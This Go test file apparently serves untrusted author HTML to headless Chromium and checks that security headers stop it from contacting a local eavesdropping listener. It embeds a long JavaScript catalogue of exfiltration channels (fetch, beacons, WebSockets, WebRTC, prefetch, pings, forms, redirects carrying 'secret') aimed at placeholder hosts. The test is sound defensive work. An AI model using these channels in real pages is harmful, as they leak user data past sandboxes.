package resource_test

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/rhaptos/rhaptos/gitserver/testenv"
	"github.com/rhaptos/rhaptos/web/resource"
)

// eavesdropper notes what reaches it over TCP and UDP.
type eavesdropper struct {
	tcp net.Listener
	udp net.PacketConn
	mu  sync.Mutex
	got []string
}

func (e *eavesdropper) note(what string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.got = append(e.got, what)
}

func eavesdrop(t *testing.T) *eavesdropper {
	t.Helper()
	e := &eavesdropper{}
	var err error
	if e.tcp, err = net.Listen("tcp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	if e.udp, err = net.ListenPacket("udp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { e.tcp.Close(); e.udp.Close() })
	go func() {
		for {
			c, err := e.tcp.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				c.SetDeadline(time.Now().Add(5 * time.Second))
				head := make([]byte, 60)
				n, _ := c.Read(head)
				e.note(fmt.Sprintf("tcp %.60q", head[:n]))
			}()
		}
	}()
	go func() {
		packet := make([]byte, 100)
		for {
			n, _, err := e.udp.ReadFrom(packet)
			if err != nil {
				return
			}
			e.note(fmt.Sprintf("udp %d bytes", n))
		}
	}()
	return e
}

// attempts are ways out of a document; {TCP} and {UDP} are addresses to reach.
const attempts = `
const U = "http://{TCP}";
function add(name, attributes, where) {
	const e = document.createElement(name);
	Object.assign(e, attributes);
	(where || document.body).append(e);
	return e;
}
const ways = [
	() => fetch(U + "/fetch", {mode: "no-cors"}),
	() => fetch(U + "/keepalive", {mode: "no-cors", keepalive: true, method: "POST", body: "x"}),
	() => { const r = new XMLHttpRequest(); r.open("POST", U + "/xhr"); r.send("x") },
	() => navigator.sendBeacon(U + "/beacon", "x"),
	() => new WebSocket("ws://{TCP}/socket"),
	() => new EventSource(U + "/events"),
	() => new WebTransport("https://{UDP}/transport"),
	() => fetchLater(U + "/later", {activateAfter: 0}),
	() => { new Image().src = U + "/image" },
	() => add("img", {srcset: U + "/srcset 1x"}),
	() => add("audio", {src: U + "/audio"}),
	() => add("video", {poster: U + "/poster", src: U + "/video"}),
	() => add("script", {src: U + "/script.js"}),
	() => import(U + "/import.js"),
	() => new Worker(U + "/worker.js"),
	() => new Worker(URL.createObjectURL(new Blob(["fetch('" + U + "/worker')"]))),
	() => add("link", {rel: "stylesheet", href: U + "/style.css"}),
	() => add("style", {textContent: "@import '" + U + "/imported.css'; body { background: url(" + U + "/background); cursor: url(" + U + "/cursor), auto } @font-face { font-family: f; src: url(" + U + "/font) } body { font-family: f }"}),
	() => add("iframe", {src: U + "/frame"}),
	() => add("iframe", {srcdoc: "<img src='" + U + "/inner'>"}),
	() => add("object", {data: U + "/object"}),
	() => add("embed", {src: U + "/embed"}),
	() => add("link", {rel: "preconnect", href: U}, document.head),
	() => add("link", {rel: "dns-prefetch", href: "http://canary-linked.test/"}, document.head),
	() => add("link", {rel: "preconnect", href: "http://canary-connected.test/"}, document.head),
	() => add("a", {href: "http://canary-anchor.test/", textContent: "x"}),
	() => add("link", {rel: "prefetch", href: U + "/prefetch"}, document.head),
	() => add("link", {rel: "preload", as: "image", href: U + "/preload"}, document.head),
	() => add("link", {rel: "modulepreload", href: U + "/modulepreload"}, document.head),
	() => add("link", {rel: "manifest", href: U + "/manifest"}, document.head),
	() => add("link", {rel: "icon", href: U + "/icon"}, document.head),
	() => add("script", {type: "speculationrules", textContent: JSON.stringify({
		prefetch: [{source: "list", urls: [U + "/speculation"], eagerness: "immediate"}],
		prerender: [{source: "list", urls: [U + "/prerender"], eagerness: "immediate"}]})}, document.head),
	() => { const a = add("a", {href: "#here", ping: U + "/ping"}); a.click() },
	() => { const a = add("a", {href: U + "/download", download: "x"}); a.click() },
	() => { const a = add("a", {href: U + "/blank", target: "_blank"}); a.click() },
	() => open(U + "/window"),
	() => { const f = add("form", {action: U + "/form", method: "post"}); f.submit() },
	() => { top.location = U + "/top" },
	() => new PaymentRequest([{supportedMethods: "https://{TCP}/pay"}], {total: {label: "x", amount: {currency: "EUR", value: "1"}}}).canMakePayment(),
	async () => {
		const p = new RTCPeerConnection({iceServers: [{urls: "stun:{UDP}"}, {urls: "turn:{TCP}?transport=tcp", username: "secret", credential: "x"}]});
		p.createDataChannel("x");
		await p.setLocalDescription(await p.createOffer());
	},
];
for (const way of ways) { try { const p = way(); if (p && p.catch) p.catch(() => {}) } catch (e) {} }
`

// programs are documents of an author by their names.
var programs = map[string]string{
	"all":      "<!DOCTYPE html><body><script>" + attempts + "</script><img src=/slow>",
	"location": `<!DOCTYPE html><body><script>location = "http://{TCP}/location?secret"</script><img src=/slow>`,
	"replace":  `<!DOCTYPE html><body><script>setTimeout(() => location.replace("http://{TCP}/replace?secret"), 300)</script><img src=/slow>`,
	"refresh":  `<!DOCTYPE html><meta http-equiv="refresh" content="0; url=http://{TCP}/refresh?secret"><img src=/slow>`,
	"click":    `<!DOCTYPE html><body><a id="a" href="http://{TCP}/click?secret">x</a><script>a.click()</script><img src=/slow>`,
	"history":  `<!DOCTYPE html><body><script>navigation.navigate("http://{TCP}/navigation?secret")</script><img src=/slow>`,
}

// TestProgramsSendNothing runs documents of authors in Chromium, in a page and opened
// directly, and listens for what comes out.
func TestProgramsSendNothing(t *testing.T) {
	testenv.Slow(t, "starts a browser")
	browser := ""
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable"} {
		if path, err := exec.LookPath(name); err == nil {
			browser = path
			break
		}
	}
	if browser == "" {
		testenv.Missing(t, "a browser", ".ci/install browser")
	}
	e := eavesdrop(t)
	fill := strings.NewReplacer("{TCP}", e.tcp.Addr().String(), "{UDP}", e.udp.LocalAddr().String()).Replace
	policed := true
	var asked []string
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h, name := w.Header(), strings.TrimPrefix(r.URL.Path, "/media/")
		resource.SetSecurityFields(h)
		switch program, ok := programs[name]; {
		case r.URL.Path == "/slow": // holds back the end of loading
			time.Sleep(3 * time.Second)
		case r.URL.Path == "/page":
			h.Set("Content-Type", resource.TypeHTML)
			fmt.Fprint(w, "<!DOCTYPE html><title>Page</title><img src=/slow>")
			for name := range programs {
				fmt.Fprintf(w, `<iframe sandbox="allow-scripts" src="/media/%s"></iframe>`, name)
			}
		case ok:
			e.mu.Lock()
			asked = append(asked, name)
			e.mu.Unlock()
			resource.SetForeignFields(h, "media/"+name, "text/html", false)
			if !policed {
				for _, field := range []string{"Content-Security-Policy", "Connection-Allowlist", "X-Dns-Prefetch-Control"} {
					h.Del(field)
				}
			}
			h.Set("Content-Type", resource.TypeHTML)
			fmt.Fprint(w, fill(program))
		default:
			http.NotFound(w, r)
		}
	}))
	defer server.Close()
	open := func(path string) []string {
		dir := t.TempDir()
		log := filepath.Join(dir, "net.json")
		cmd := exec.Command(browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-component-update", "--disable-background-networking",
			"--user-data-dir="+filepath.Join(dir, "profile"), "--log-net-log="+log, "--screenshot="+filepath.Join(dir, "x.png"), "--timeout=20000", server.URL+path)
		e.mu.Lock()
		e.got, asked = nil, nil
		e.mu.Unlock()
		if said, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%s: %v\n%s", path, err, said)
		}
		time.Sleep(200 * time.Millisecond)
		net, err := os.ReadFile(log)
		if err != nil {
			t.Fatal(err)
		}
		e.mu.Lock()
		defer e.mu.Unlock()
		if len(asked) == 0 {
			t.Errorf("%s: no document has been loaded", path)
		}
		got := slices.Clone(e.got)
		for _, m := range regexp.MustCompile(`"host":"[^"]*canary-[a-z]*\.test`).FindAllString(string(net), -1) {
			got = append(got, "name "+m)
		}
		return got
	}
	paths := []string{"/page"}
	for name := range programs {
		paths = append(paths, "/media/"+name)
	}
	for _, path := range paths {
		if got := open(path); len(got) > 0 {
			t.Errorf("%s has sent %q", path, got)
		}
	}
	// The attempts are real: without the fields they succeed.
	policed = false
	for _, path := range []string{"/media/all", "/media/location"} {
		if got := open(path); len(got) == 0 {
			t.Errorf("%s sends nothing without its policy either", path)
		}
	}
}
